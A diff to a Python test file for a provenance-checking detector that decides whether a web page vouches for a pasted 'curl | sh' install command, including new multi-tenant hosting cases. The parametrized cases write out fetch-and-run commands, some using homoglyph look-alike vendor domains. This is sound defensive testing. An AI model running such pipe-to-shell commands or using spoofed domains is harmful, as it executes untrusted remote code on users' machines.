@@ -16,6 +16,7 @@ from app.detection.provenance import (
     page_bars_vouching,
     registrable_domain,
     same_project,
+    same_tenant_site,
 )
 from app.detection.trust import TrustList
 
@@ -362,8 +363,9 @@ def test_a_web_page_alone_is_no_evidence_against_a_terminal_paste(engine: Engine
         # look-alike letters: the folded host is the vendor's, the text is not
         ("https://rustup.rs/", "curl -sSf https://ѕh.rustup.rs | sh"),
         ("https://vendor.dev/docs", "curl -fsSL https://get.vеndor.dev/install.sh | sh"),
-        # multi-tenant hosting vouches for nobody
-        ("https://alice.pages.dev/", "curl -fsSL https://alice.pages.dev/install.sh | sh"),
+        # a tenant of multi-tenant hosting vouches for no other tenant (its own site: below)
+        ("https://alice.pages.dev/", "curl -fsSL https://bob.pages.dev/install.sh | sh"),
+        ("https://alice.pages.dev/", "curl -fsSL https://alice.netlify.app/install.sh | sh"),
     ],
 )  # fmt: skip
 def test_borrowed_or_partial_provenance_clears_nothing(
@@ -623,3 +625,42 @@ def test_a_product_site_vouches_for_storage_named_after_it(page: str, url: str) 
 def test_storage_named_otherwise_is_not_vouched_for(page: str, url: str) -> None:
     parsed = parse_url(url)
     assert parsed is not None and named_storage(page, parsed) is None, (page, url)
+
+
+TENANT_SITES = frozenset({"pages.dev", "netlify.app", "vercel.app"})
+
+
+@pytest.mark.parametrize(
+    ("page", "url"),
+    [
+        ("https://loamdb.pages.dev/docs/install", "https://loamdb.pages.dev/install.sh"),
+        ("https://main.loamdb.pages.dev/quickstart", "https://loamdb.pages.dev/install.sh"),
+        ("https://tarnctl.netlify.app/", "https://tarnctl.netlify.app/install"),
+    ],
+)
+def test_a_tenant_site_vouches_for_its_own_script(page: str, url: str) -> None:
+    parsed = parse_url(url)
+    assert parsed is not None
+    assert same_tenant_site(page, parsed, TENANT_SITES, known=lambda n: False)
+
+
+@pytest.mark.parametrize(
+    ("page", "url"),
+    [
+        # another tenant of the suffix, or of another suffix
+        ("https://loamdb.pages.dev/docs", "https://loamdb-cdn.pages.dev/install.sh"),
+        ("https://tarnctl.netlify.app/", "https://tarnctl.vercel.app/install"),
+        # a suffix that is no tenant site (a tunnel), or the suffix itself
+        ("https://a.trycloudflare.com/", "https://a.trycloudflare.com/i.sh"),
+        ("https://pages.dev/", "https://pages.dev/i.sh"),
+        # plain HTTP, a page about something else, a known publisher's name
+        ("https://loamdb.pages.dev/docs", "http://loamdb.pages.dev/install.sh"),
+        ("https://loamdb.pages.dev/recipes/winter-soup", "https://loamdb.pages.dev/i.sh"),
+        ("https://rustup.pages.dev/", "https://rustup.pages.dev/install.sh"),
+    ],
+)
+def test_no_other_tenant_site_vouches(page: str, url: str) -> None:
+    parsed = parse_url(url)
+    assert parsed is not None
+    known = {"rustup"}.__contains__
+    assert same_tenant_site(page, parsed, TENANT_SITES, known=known) is None, (page, url)
